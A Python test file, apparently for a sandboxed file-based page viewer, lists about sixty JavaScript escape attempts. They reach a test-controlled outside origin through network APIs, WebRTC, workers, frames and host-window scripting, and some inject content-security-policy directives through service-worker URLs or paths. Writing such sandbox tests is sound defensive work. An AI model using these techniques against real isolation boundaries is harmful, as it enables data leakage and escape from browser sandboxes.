"""Attempts to escape from a page made of files. Each is the body of an async function that starts with `PRELUDE`."""

# `out` is the other origin, `udp` a port there. `near()` returns the reachable windows of the page's own origin, with
# host.html's. `framed(…)` adds a frame and waits for its load. `ask` makes a window send a request.
PRELUDE = """
const [out, udp] = arguments;
// If its frame disappears during a script, the driver runs it again in the surrounding page.
if (window === top) return;
const near = () => {
  const found = [];
  const look = (view) => {
    for (let index = 0; index < view.length; index++) {
      try {
        if (view[index].document && view[index] !== window) found.push(view[index]);
      } catch {}
      look(view[index]);
    }
  };
  look(top);
  return found;
};
const add = (name, of, place = document.body) => place.appendChild(Object.assign(document.createElement(name), of));
const framed = (of) => new Promise((done) => { const frame = add("iframe", of); frame.onload = () => done(frame); });
const soon = (work) => Promise.race([work, ticks(30)]);
// Waits as long as some requests of the page take.
const ticks = async (count) => { for (let n = 0; n < count; n++) await fetch("index.html").catch(() => 0); };
const worker = (source) => soon(new Promise((done) => { const one = new Worker(source); one.onmessage = one.onerror = done; }));
const ask = (view) => view.fetch(`${out}/a`, { mode: "no-cors" });
const js = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const leave = (name) => `data:text/html,<script>location=${JSON.stringify(`${out}/${name}`)}</` + "script>";
const gone = (name) => `<script>location=${JSON.stringify(`${out}/${name}`)}</` + "script>";
"""
FENCE = "; await ticks(20);"

ESCAPES = {
    "fetch": "await fetch(`${out}/a`, { mode: 'no-cors' })",
    "beacon": "navigator.sendBeacon(`${out}/a`, 'x')",
    "image": "new Image().src = `${out}/a`",
    "websocket": "new WebSocket(out.replace('http', 'ws'))",
    "eventsource": "new EventSource(`${out}/a`)",
    "webtransport": "new WebTransport(out.replace('http:', 'https:'))",
    "form-get": "add('form', { action: `${out}/a` }).submit()",
    "form-post-to-a-window": "add('form', { action: `${out}/a`, method: 'post', target: '_blank' }).submit()",
    "window-open": "open(`${out}/a`)",
    "location": "location.href = `${out}/a`",
    "location-unheard": "navigation.onnavigate = null; add('a', { href: `${out}/a`, target: '_self' }).click()",
    "meta-refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${out}/a` })",
    "javascript-document": "location.href = 'javascript:' + JSON.stringify(gone('a'))",
    "javascript-document-with-webrtc": "location.href = 'javascript:' + JSON.stringify(`<script>const c = new RTCPeerConnection("
    "{ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</` "
    "+ 'script>')",
    "javascript-document-with-links": "location.href = 'javascript:' + JSON.stringify(`<link rel=preconnect href=${out}>"
    "<link rel=dns-prefetch href=${out}><link rel=prefetch href=${out}/a><img src=${out}/a>`)",
    "svg-document": "location.href = 'leaves.svg'",
    "svg-in-a-frame": "await framed({ src: 'leaves.svg' })",
    "prefetch": "add('link', { rel: 'prefetch', href: `${out}/a` }, document.head)",
    "preconnect": "add('link', { rel: 'preconnect', href: out }, document.head)",
    "stylesheet": "add('link', { rel: 'stylesheet', href: `${out}/a` }, document.head)",
    "font": "await new FontFace('x', `url(${out}/a)`).load()",
    "speculation-rules": "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: "
    "[{ urls: [`${out}/a`], eagerness: 'immediate' }], prerender: [{ urls: [`${out}/b`], eagerness: 'immediate' }] }) })",
    "module": "await import(`${out}/a`)",
    "ping": "add('a', { href: '#x', ping: `${out}/a` }).click()",
    "object": "add('object', { data: `${out}/a` })",
    "download": "add('a', { href: `${out}/a`, download: 'x' }).click()",
    "download-in-srcdoc": "await framed({ srcdoc: `<a id=a href=${out}/a download=x>x</a><script>a.click()</` + 'script>' })",
    "frame": "await soon(framed({ src: `${out}/a` }))",
    "srcdoc": "await soon(framed({ srcdoc: `<img src=${out}/a>` + gone('b') }))",
    "data-document": "await soon(framed({ src: leave('a') }))",
    "blob-document": "await soon(framed({ src: URL.createObjectURL(new Blob([gone('a')], { type: 'text/html' })) }))",
    "blank-realm": "const f = add('iframe', {}); await ask(f.contentWindow)",
    "worker-file": "await worker('leaves.js#' + out)",
    "worker-blob": "await worker(js(`fetch('${out}/a', { mode: 'no-cors' }).finally(() => postMessage(1))`))",
    "worker-data": "await worker(`data:text/javascript,fetch('${out}/a', { mode: 'no-cors' }).finally(() => postMessage(1))`)",
    "worker-imports": "await worker(js(`importScripts('${out}/a')`))",
    "worker-nested": "await worker(js(`new Worker('${js(`fetch('${out}/a', { mode: 'no-cors' })`)}').onerror = () => postMessage(1)`))",
    "shared-worker": "await soon(new Promise((done) => { new SharedWorker(js(`fetch('${out}/a', { mode: 'no-cors' })`)).onerror = done }))",
    "webrtc-udp": "const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });"
    "c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())",
    "webrtc-tcp": "const c = new RTCPeerConnection({ iceServers: [{ urls: `turn:${out.slice(7)}?transport=tcp`, username: 'secret', "
    "credential: 'x' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())",
    "webrtc-in-a-realm": "const c = new (add('iframe', {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: "
    "`stun:127.0.0.1:${udp}` }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())",
    "host-fetch": "for (const view of near()) await ask(view).catch(() => 0)",
    "host-image": "for (const view of near()) new view.Image().src = `${out}/a`",
    "host-link": "for (const view of near()) { const a = view.document.createElement('a'); a.href = `${out}/a`; "
    "view.document.body.append(a); a.click() }",
    "host-location": "for (const view of near()) try { view.location = `${out}/a` } catch {}",
    "host-script": "for (const view of near()) { const s = view.document.createElement('script'); s.textContent = `location='${out}/a'`; "
    "view.document.body.append(s) }",
    "host-window": "for (const view of near()) view.open(`${out}/a`)",
    "host-webrtc": "for (const view of near()) { const c = new view.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });"
    "c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()) }",
    "host-framed": "const f = await soon(framed({ src: '/host.html' })); await ask(f.contentWindow)",
    "host-as-the-tab": "location.href = '/host.html'",
    "host-own-script-framed": "const f = await soon(framed({ src: '/gemini-page.js' })); "
    "await ask(f.contentWindow)",
    "missing-file": "const f = await soon(framed({ src: 'none.html' })); await ask(f.contentWindow)",
    "missing-at-the-root": "const f = await soon(framed({ src: '/none' })); await ask(f.contentWindow)",
    "refused-post": "const f = await framed({ name: 'f' }); add('form', { action: 'index.html', method: 'post', target: 'f' }).submit(); "
    "await soon(new Promise((done) => { f.onload = done })); await ask(f.contentWindow)",
    "directory": "const f = await soon(framed({ src: 'sub' })); await ask(f.contentWindow)",
    # The worker adds the surface's origin, from its registration, to the policy.
    "policy-by-the-worker's-address": "for (const view of near()) await view.navigator.serviceWorker.register("
    "'/worker.js?surface=' + encodeURIComponent('http://x;connect-src *')).catch(() => 0); await ticks(10); "
    "const f = await soon(framed({ src: 'sub/' })); await ask(f.contentWindow)",
    "policy-by-a-path": "const f = await soon(framed({ src: '/x;connect-src *;y/none.html' })); "
    "await ask(f.contentWindow)",
    "answers-by-the-host": "for (const view of near()) view.navigator.serviceWorker.addEventListener('message', ({ ports }) => ports[0]"
    ".postMessage({ status: 200, type: 'text/html', outside: true, headers: { 'content-type': 'text/html' }, "
    "content: new TextEncoder().encode(`<img src=${out}/a>` + gone('b')).buffer })); await soon(framed({ src: 'sub/index.html' }))",
    "service-worker-of-the-site": "await navigator.serviceWorker.register('worker.js').catch(() => 0); "
    "for (const view of near()) await view.navigator.serviceWorker.register('/project/attack/worker.js').catch(() => 0); "
    "await ticks(5); await soon(framed({ src: 'sub/index.html' }))",
    "service-worker-of-the-host": "await navigator.serviceWorker.register('/worker.js?x').catch(() => 0); "
    "await (await navigator.serviceWorker.getRegistration())?.unregister(); await soon(framed({ src: '/host.html' }))"
    ".then((f) => ask(f.contentWindow))",
    "controlled-by-another": "parent.postMessage({ geminiPage: 'here', url: `${out}/a` }, '*'); top.postMessage({ geminiPage: 'here', "
    "url: `${out}/a` }, '*')",
}

FILES = {
    "index.html": "<!doctype html><title>Attack</title><body>",
    "sub/index.html": "<!doctype html><title>Sub</title>",
    "leaves.js": "fetch(location.hash.slice(1) + '/a', { mode: 'no-cors' }).finally(() => postMessage(1))",
    "worker.js": "addEventListener('fetch', (e) => e.respondWith(new Response('<script>fetch(\"OUT/a\")</' + 'script>', "
    "{ headers: { 'content-type': 'text/html' } }))); addEventListener('install', () => skipWaiting())",
    "leaves.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>location.href = "OUT/a"</script></svg>',
}
